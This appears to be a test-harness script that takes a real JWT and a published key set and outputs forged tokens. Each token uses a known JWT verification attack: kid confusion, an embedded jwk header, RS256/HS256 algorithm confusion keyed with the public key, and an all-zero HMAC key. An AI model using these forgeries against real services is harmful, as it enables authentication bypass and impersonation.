// Forges access tokens with npm jose: what a stranger could make who read the published key set.
// Input {token, jwks}: a genuine token and the keys; output {name: forged token}. Checks nothing.
import { readFileSync } from "node:fs";
import { SignJWT, decodeJwt, decodeProtectedHeader, exportJWK, exportSPKI, generateKeyPair,
  importJWK } from "jose";

const { token, jwks } = JSON.parse(readFileSync(0, "utf8"));
const header = decodeProtectedHeader(token);
const claims = decodeJwt(token);
const own = await generateKeyPair("ES256", { extractable: true });
const rsa = await generateKeyPair("RS256");
const jwk = await exportJWK(own.publicKey);
const published = jwks.keys.find((key) => key.kid === header.kid) ?? jwks.keys[0];
const pem = await exportSPKI(await importJWK(published, "ES256"));

const sign = (change, key) =>
  new SignJWT(claims).setProtectedHeader({ ...header, ...change }).sign(key);
const bytes = (text) => new TextEncoder().encode(text);

console.log(JSON.stringify({
  "own key under the server's kid": await sign({}, own.privateKey),
  "own key, own kid": await sign({ kid: "mine" }, own.privateKey),
  "own key in the jwk header": await sign({ jwk }, own.privateKey),
  "RS256": await sign({ alg: "RS256" }, rsa.privateKey),
  "HS256 keyed with the public key's PEM": await sign({ alg: "HS256" }, bytes(pem)),
  "HS256 keyed with the public key's x":
    await sign({ alg: "HS256" }, Buffer.from(published.x, "base64url")),
  "HS256 keyed with an empty-looking key": await sign({ alg: "HS256" }, new Uint8Array(32)),
}));
